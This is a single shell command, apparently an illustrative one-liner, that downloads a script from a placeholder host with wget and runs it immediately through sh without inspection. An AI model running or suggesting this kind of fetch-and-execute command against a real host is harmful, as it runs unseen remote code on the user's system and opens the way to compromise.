sh -c "$(wget -qO- https://x.example/i)"
